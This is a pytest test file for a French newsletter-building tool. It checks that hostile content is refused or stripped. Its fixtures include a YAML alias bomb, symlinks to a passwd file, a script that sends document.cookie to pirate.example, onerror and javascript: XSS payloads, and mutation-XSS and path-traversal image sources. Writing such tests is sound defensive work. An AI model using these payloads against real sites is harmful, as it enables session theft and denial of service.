"""The ``inserecho`` command facing content written to harm: nothing unsafe reaches the email
or the web archive, nothing is read or written outside the newsletter folder, and each refusal
is a French ``fichier:ligne`` message with exit code 1, never a traceback."""

from __future__ import annotations

import re
import textwrap

import pytest

from issuefolder import ISSUE, ITEMS, NEWS, SETTINGS, SLUG, make_folder, run_cli

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 64
BOMB = "".join(f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 10)}]\n" for n in range(1, 10))
"""Nine levels of ten aliases: a billion strings once expanded."""


def assert_refused(run, *expected: str) -> None:
    assert "Traceback" not in run.output and "Erreur interne" not in run.output
    assert run.code == 1, run.output
    for line in expected:
        assert line in run.err.splitlines(), run.err


@pytest.mark.parametrize(
    ("files", "where"),
    [
        pytest.param(
            {"items": {**ITEMS, "voeux.md": "---\nsection: news\nl0: &l0 ha\n" + BOMB + "---\nTexte.\n"}},
            "issues/2027-01/voeux.md:3",
            id="front-matter",
        ),
        pytest.param(
            {"issue": textwrap.dedent(ISSUE) + 'l0: &l0 "ha"\n' + BOMB}, "issues/2027-01/issue.yaml:7", id="issue-yaml"
        ),
        pytest.param(
            {"settings": textwrap.dedent(SETTINGS) + 'l0: &l0 "ha"\n' + BOMB}, "inserecho.yaml:14", id="settings"
        ),
    ],
)
def test_yaml_aliases_are_refused_before_they_expand(tmp_path, files, where):
    run = run_cli(make_folder(tmp_path, **files), "check", SLUG)

    assert_refused(run)
    assert f"{where}: YAML refusé : les ancres (« &nom ») et les renvois (« *nom »)" in run.err


@pytest.mark.parametrize("name", ["_edito.md", "voeux.md", "issue.yaml"])
def test_a_file_that_links_out_of_the_issue_is_not_read(tmp_path, name):
    secret = tmp_path / "passwd"
    secret.write_text("root:x:0:0:root:/root:/bin/bash\n")
    root = make_folder(
        tmp_path / "lettre", issue=ISSUE.replace("editorial: |\n      Bonne année à toutes et à tous !\n", "")
    )
    link = root / "issues" / SLUG / name
    link.unlink(missing_ok=True)
    link.symlink_to(secret)

    run = run_cli(root, "build", SLUG)

    assert_refused(run)
    assert f"issues/2027-01/{name}: ce fichier mène en dehors du dossier du numéro (vers {secret})" in run.err
    assert not (root / "build").exists()


def test_an_image_path_that_climbs_out_through_a_link_is_copied_inside_build(tmp_path):
    root = make_folder(
        tmp_path,
        {
            **ITEMS,
            "voeux.md": NEWS.replace(
                "---\n    Rendez", "image: profond/../../../photo.png\n    image_alt: Le stand\n    ---\n    Rendez"
            ),
            "photo.png": PNG,
            "dossier/a/b/.keep": "",
        },
    )
    (root / "issues" / SLUG / "profond").symlink_to("dossier/a/b")

    run = run_cli(root, "build", SLUG)

    assert run.code == 0, run.output
    assert not (root / "photo.png").exists()
    assert (root / "build" / SLUG / "photo.png").read_bytes() == PNG
    assert 'src="./photo.png"' in (root / "build" / SLUG / "email.html").read_text()


def test_a_build_folder_that_links_out_is_not_written_through(tmp_path):
    elsewhere = tmp_path / "ailleurs"
    elsewhere.mkdir()
    root = make_folder(
        tmp_path / "lettre",
        {
            **ITEMS,
            "voeux.md": NEWS.replace(
                "---\n    Rendez", "image: images/photo.png\n    image_alt: Le stand\n    ---\n    Rendez"
            ),
            "images/photo.png": PNG,
        },
    )
    (root / "build" / SLUG).mkdir(parents=True)
    (root / "build" / SLUG / "images").symlink_to(elsewhere)

    run = run_cli(root, "build", SLUG)

    assert_refused(run)
    assert "build/2027-01/images/photo.png: écrire ici sortirait du dossier" in run.err
    assert list(elsewhere.iterdir()) == []


HOSTILE = (
    NEWS.replace("    Rendez-vous à Montreuil pour les vœux du réseau.\n", "")
    + "    Rendez-vous à Montreuil.\n"  # line 8
    + "\n"
    + '    <script>fetch("https://pirate.example/?c=" + document.cookie)</script>\n'  # line 10
    + "\n"
    + '    <img src="x" onerror="alert(1)"> [Programme](javascript:alert(2))\n'  # line 12
)
HOSTILE_EDITORIAL = 'Bonne année !\n\n<iframe src="https://pirate.example/"></iframe>\n'
COSMETIC = NEWS + '\n    <p style="position:fixed;top:0">Bandeau</p> <font color="red">rouge</font>\n'  # line 10


@pytest.mark.parametrize("command", [("check", SLUG), ("build", SLUG), ("archive", "--out", "site")])
def test_script_event_handlers_and_javascript_links_are_refused_everywhere(tmp_path, command):
    issue = textwrap.dedent(ISSUE).replace("editorial: |\n  Bonne année à toutes et à tous !\n", "")
    root = make_folder(tmp_path, {**ITEMS, "voeux.md": HOSTILE, "_edito.md": HOSTILE_EDITORIAL}, issue=issue)

    run = run_cli(root, *command)

    assert_refused(run)
    assert "issues/2027-01/voeux.md:10: HTML refusé : la balise <script>." in run.err
    assert (
        "issues/2027-01/voeux.md:12: HTML refusé : l'attribut « onerror » (du code lancé par le navigateur), "
        "l'adresse « javascript:alert(2) »" in run.err
    )
    assert "issues/2027-01/_edito.md:3: HTML refusé : la balise <iframe>." in run.err
    assert not (root / "build").exists() and not (root / "site").exists()


def test_cosmetic_html_is_removed_from_the_email_and_the_archive_with_a_warning(tmp_path):
    root = make_folder(tmp_path, {**ITEMS, "voeux.md": COSMETIC})
    warning = (
        "issues/2027-01/voeux.md:10: avertissement : HTML retiré : l'attribut « style », la balise <font> ; "
        "la lettre ne garde que la mise en forme simple"
    )

    strict = run_cli(root, "check", SLUG, "--strict")
    built = run_cli(root, "build", SLUG)
    archived = run_cli(root, "archive", "--out", "site")

    assert strict.code == 1 and warning in strict.output
    assert built.code == 0 and warning in built.output
    assert archived.code == 0, archived.output
    for page in (root / "build" / SLUG / "email.html", root / "site" / SLUG / "index.html"):
        html = page.read_text()
        assert "Bandeau" in html and "rouge" in html
        assert "position:fixed" not in html and "<font" not in html


def test_a_body_image_is_checked_copied_and_shown_on_the_web(tmp_path):
    item = NEWS + "\n    ![Le stand du réseau](images/stand.png)\n"
    root = make_folder(tmp_path, {**ITEMS, "voeux.md": item, "images/stand.png": PNG})

    built = run_cli(root, "build", SLUG)
    archived = run_cli(root, "archive", "--out", "site")

    assert built.code == 0 and archived.code == 0, built.output + archived.output
    assert (root / "build" / SLUG / "images" / "stand.png").read_bytes() == PNG
    assert (root / "site" / SLUG / "images" / "stand.png").read_bytes() == PNG
    assert 'src="./images/stand.png"' in (root / "build" / SLUG / "email.html").read_text()
    assert 'src="./images/stand.png"' in (root / "site" / SLUG / "index.html").read_text()


def test_a_body_image_without_alt_text_or_file_fails_strict_checks(tmp_path):
    item = NEWS + "\n    ![](images/stand.png)\n\n    ![Absente](images/absente.png)\n"  # lines 10 and 12
    root = make_folder(tmp_path, {**ITEMS, "voeux.md": item, "images/stand.png": PNG})

    run = run_cli(root, "check", SLUG, "--strict")

    assert_refused(
        run,
        "issues/2027-01/voeux.md:10: l'image « images/stand.png » n'a pas de texte alternatif : décrivez-la "
        "entre les crochets, par exemple ![Le stand du réseau](images/stand.jpg).",
        "issues/2027-01/voeux.md:12: l'image « images/absente.png » est introuvable dans le dossier du numéro ; "
        "vérifiez le nom du fichier.",
    )


def test_articles_whose_names_differ_only_by_accents_get_distinct_anchors(tmp_path):
    other = NEWS.replace("title: Vœux du réseau", "title: Vœux des partenaires")
    root = make_folder(tmp_path, {**ITEMS, "vœux-été.md": NEWS, "voeux-ete.md": other, "Voeux ete.md": other})

    run = run_cli(root, "build", SLUG)

    assert run.code == 0, run.output
    html = (root / "build" / SLUG / "email.html").read_text()
    ids = [i for i in re.findall(r'id="(article-[^"]*)"', html) if i.startswith("article-voeux-ete")]
    assert sorted(ids) == ["article-voeux-ete", "article-voeux-ete-2", "article-voeux-ete-3"]


def test_a_list_nested_300_deep_is_a_clear_error_not_an_internal_one(tmp_path):
    deep = "\n".join("    " * level + "- niveau" for level in range(300))
    item = textwrap.dedent(NEWS) + "\n" + deep + "\n"  # level 0 on line 10
    root = make_folder(tmp_path, {**ITEMS, "voeux.md": item.encode()})

    run = run_cli(root, "build", SLUG)

    assert_refused(
        run,
        "issues/2027-01/voeux.md:30: la mise en forme est imbriquée sur plus de 20 niveaux "
        "(listes dans des listes, citations « > » ou balises les unes dans les autres) ; simplifiez-la.",
    )
    assert not (root / "build").exists()


def test_control_characters_in_a_body_are_dropped_with_a_warning(tmp_path):
    root = make_folder(tmp_path, {**ITEMS, "voeux.md": NEWS + "\n    Texte\x1b[0m collé.\n"})  # line 10

    strict = run_cli(root, "check", SLUG, "--strict")
    built = run_cli(root, "build", SLUG)

    assert strict.code == 1
    assert "issues/2027-01/voeux.md:10: avertissement : caractère invisible U+001B supprimé" in strict.output
    assert built.code == 0 and "\x1b" not in (root / "build" / SLUG / "email.html").read_text()


@pytest.mark.parametrize("element", ["noscript", "xmp", "textarea", "title", "noembed"])
@pytest.mark.parametrize("src", ["https://tracker.example/p.gif", "../../../../etc/passwd"])
def test_an_image_hidden_in_a_raw_text_element_is_checked_as_nh3_outputs_it(tmp_path, element, src):
    body = f'Début.\n\n<{element}><p title="</{element}><img src={src}>"></{element}>\n'
    root = make_folder(
        tmp_path,
        {
            **ITEMS,
            "voeux.md": NEWS.replace(
                "    Rendez-vous à Montreuil pour les vœux du réseau.\n", textwrap.indent(body, "    ")
            ),
        },
    )

    run = run_cli(root, "build", SLUG)

    assert "Traceback" not in run.output and run.code == 1, run.output
    assert f"issues/{SLUG}/voeux.md:" in run.err and "l'image" in run.err
    assert not (root / "build").exists()


@pytest.mark.parametrize(
    ("content", "phrase"),
    [
        (b"Ceci est un texte.\n", "n'est pas une image"),
        (b"RIFF\0\0\0\0WEBPVP8 ", "WebP"),
    ],
)
def test_a_file_named_like_an_image_that_is_none_is_refused(tmp_path, content, phrase):
    root = make_folder(
        tmp_path,
        {
            **ITEMS,
            "images/fake.png": content,
            "voeux.md": NEWS.replace(
                "---\n    Rendez", "image: images/fake.png\n    image_alt: Le stand\n    ---\n    Rendez"
            ),
        },
    )

    run = run_cli(root, "check", SLUG)

    assert "Traceback" not in run.output and run.code == 1, run.output
    assert f"issues/{SLUG}/voeux.md:7: " in run.err and phrase in run.err, run.err
